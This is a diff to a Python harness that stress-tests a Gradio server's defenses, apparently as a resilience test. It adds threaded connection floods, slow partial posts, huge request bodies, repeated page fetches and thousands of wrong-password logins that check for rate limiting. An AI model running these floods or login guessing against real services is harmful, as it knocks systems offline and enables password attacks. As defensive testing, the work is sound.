@@ -4,12 +4,16 @@ import resource
 import selectors
 import socket
 import time
+from collections.abc import Callable
+from concurrent.futures import ThreadPoolExecutor
 from dataclasses import dataclass
+from typing import TypeVar
 
 SECONDS = 120
-"""The attack ends after this time, whatever it has done."""
+"""Each part of the attack ends after this time, whatever it has done."""
 AT_ONCE = 20
 CHUNK = b"x" * 65536
+_T = TypeVar("_T")
 OFTEN = "/gradio_api/queue/join", "/gradio_api/run/predict", "/gradio_api/cancel", "/login"
 
 
@@ -22,9 +26,10 @@ class Sizes:
     bodies: int = 10
     body_bytes: int = 300_000_000
     logins: int = 2000
+    documents: int = 2000
 
 
-SHORT = Sizes(connections=400, half_posts=60, bodies=4, body_bytes=50_000_000, logins=60)
+SHORT = Sizes(connections=400, half_posts=60, bodies=4, body_bytes=50_000_000, logins=60, documents=200)
 
 
 @dataclass
@@ -34,39 +39,60 @@ class Outcome:
     Attributes:
         still_open: connections that were not closed again a second after the last was opened.
         taken: the most bytes of one body that were taken.
-        looked_at: wrong passwords that were looked at; the others were refused unseen.
-        seconds: how long it took.
+        documents: how often the document with the login was sent.
+        documents_seconds: how long that took.
+        logins: wrong passwords that were sent.
+        looked_at: how many of them were looked at.
+        refused_unseen: how many of them were refused without a look.
+        logins_seconds: how long that took.
     """
 
     still_open: int = 0
     taken: int = 0
+    documents: int = 0
+    documents_seconds: float = 0.0
+    logins: int = 0
     looked_at: int = 0
     refused_unseen: int = 0
-    seconds: float = 0.0
+    logins_seconds: float = 0.0
 
 
 def attack(port: int, sizes: Sizes) -> Outcome:
     """Try all of it, one after the other."""
-    began, outcome = time.monotonic(), Outcome()
+    outcome = Outcome()
     hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, sizes.connections + sizes.half_posts + 100), hard))
-    held = [_half_post(port) for _ in range(sizes.half_posts)]
-    held += [_send(port, _get(f"/gradio_api/heartbeat/{n}")) for n in range(sizes.connections)]
+    held = _many(sizes.half_posts, lambda n: _half_post(port))
+    held += _many(sizes.connections, lambda n: _send(port, _get(f"/gradio_api/heartbeat/{n}")))
     time.sleep(1)
     outcome.still_open = sum(_is_open(connection) for connection in held if connection)
     for number in range(sizes.bodies):
         outcome.taken = max(outcome.taken, _large_body(port, OFTEN[number % len(OFTEN)], sizes.body_bytes))
     for connection in filter(None, held):
         connection.close()
-    for number in range(0, sizes.logins, AT_ONCE):
-        if time.monotonic() - began > SECONDS:
-            break
-        tries = [_send(port, _form(f"username=viewer&password=wrong{number + n}")) for n in range(AT_ONCE)]
-        statuses = [_status(connection) for connection in tries if connection]
-        outcome.looked_at += statuses.count(400)
-        outcome.refused_unseen += statuses.count(429)
-    outcome.seconds = time.monotonic() - began
+    began = time.monotonic()
+    outcome.documents = _many(sizes.documents, lambda n: _status(_send(port, _get("/")))).count(200)
+    outcome.documents_seconds = time.monotonic() - began
+    began = time.monotonic()
+    statuses = _many(sizes.logins, lambda n: _status(_send(port, _form(f"username=viewer&password=wrong{n}"))))
+    outcome.logins_seconds = time.monotonic() - began
+    outcome.logins, outcome.looked_at, outcome.refused_unseen = (
+        len(statuses),
+        statuses.count(400),
+        statuses.count(429),
+    )
     return outcome
+
+
+def _many(times: int, work: Callable[[int], _T]) -> list[_T]:
+    """Do it so often, some at once: a connection that the system holds back for a second holds back no other."""
+    end = time.monotonic() + SECONDS
+
+    def once(number: int) -> list[_T]:
+        return [work(number)] if time.monotonic() < end else []
+
+    with ThreadPoolExecutor(AT_ONCE) as pool:
+        return [result for results in pool.map(once, range(times)) for result in results]
 
 
 def _connect(port: int) -> socket.socket:
@@ -128,7 +154,9 @@ def _large_body(port: int, path: str, num_bytes: int) -> int:
     return taken
 
 
-def _status(connection: socket.socket) -> int:
+def _status(connection: socket.socket | None) -> int:
+    if connection is None:
+        return 0
     try:
         with connection:
             connection.settimeout(10)
